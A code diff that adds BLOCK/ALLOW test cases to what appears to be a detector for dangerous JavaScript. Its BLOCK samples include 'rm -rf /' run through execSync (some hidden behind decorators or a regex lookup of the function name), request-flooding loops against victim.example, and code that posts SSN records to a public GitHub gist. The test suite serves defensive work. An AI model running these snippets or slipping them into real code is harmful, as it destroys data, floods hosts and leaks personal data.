@@ -37,9 +37,56 @@ export const FLOWS: JavaScriptCases = {
       "import nodemailer from 'nodemailer'; import { parse } from 'csv-parse/sync'; import fs from 'node:fs';\nconst t = nodemailer.createTransport({});\nawait t.sendMail({ to: 'team@example.com', text: 'x' });",
     ],
     [
+      "BLOCK",
+      "net.send host.public",
+      "import { PrismaClient } from '@prisma/client'; import { Octokit } from '@octokit/rest';\nconst rows = await new PrismaClient().visit.findMany({ select: { ssn: true } });\nawait new Octokit({ auth: process.env.T }).gists.create({ public: true, files: { a: { content: JSON.stringify(rows) } } });",
+    ],
+    [
       "ALLOW",
       "",
       "import { PrismaClient } from '@prisma/client'; import { Octokit } from '@octokit/rest';\nconst rows = await new PrismaClient().visit.findMany({ select: { title: true } });\nawait new Octokit({ auth: process.env.T }).gists.create({ public: true, files: { a: { content: JSON.stringify(rows) } } });",
+    ],
+    [
+      "BLOCK",
+      "process.exec command.destructive",
+      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = function (...a) { return o.apply(this, a); }; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('rm -rf /');",
+    ],
+    [
+      "ALLOW",
+      "",
+      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = function (...a) { return o.apply(this, a); }; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('ls');",
+    ],
+    [
+      "BLOCK",
+      "process.exec command.destructive",
+      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = (...a) => o(...a); return d; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('rm -rf /');",
+    ],
+    [
+      "ALLOW",
+      "",
+      "import { execSync } from 'child_process';\nfunction log(t, k, d) { const o = d.value; d.value = (...a) => o(...a); return d; }\nclass C { @log run(c) { execSync(c); } }\nnew C().run('ls');",
+    ],
+    ["BLOCK", "resource.exhaust", "while (true) { await fetch('https://victim.example/?q=' + Math.random()) }"],
+    ["ALLOW", "", "while (true) { await fetch('https://a.example/heartbeat'); await sleep(1000) }"],
+    [
+      "BLOCK",
+      "resource.exhaust",
+      "const axios = require('axios'); async function w() { for (;;) { try { await axios.get('https://victim.example/') } catch {} } }\nfor (let i = 0; i < 500; i++) w();",
+    ],
+    [
+      "ALLOW",
+      "",
+      "const axios = require('axios'); async function w() { for (;;) { const { data } = await axios.get('https://a.example/jobs'); console.log(data); } }\nw();",
+    ],
+    [
+      "BLOCK",
+      "process.exec command.destructive",
+      "const cp = require('child_process'); const k = Object.keys(cp).find(n => /^exec.*c$/.test(n) && n.length === 8); cp[k]('rm -rf /');",
+    ],
+    [
+      "ALLOW",
+      "",
+      "const cp = require('child_process'); const k = Object.keys(cp).find(n => /^exec.*c$/.test(n) && n.length === 8); cp[k]('ls');",
     ],
   ],
 };
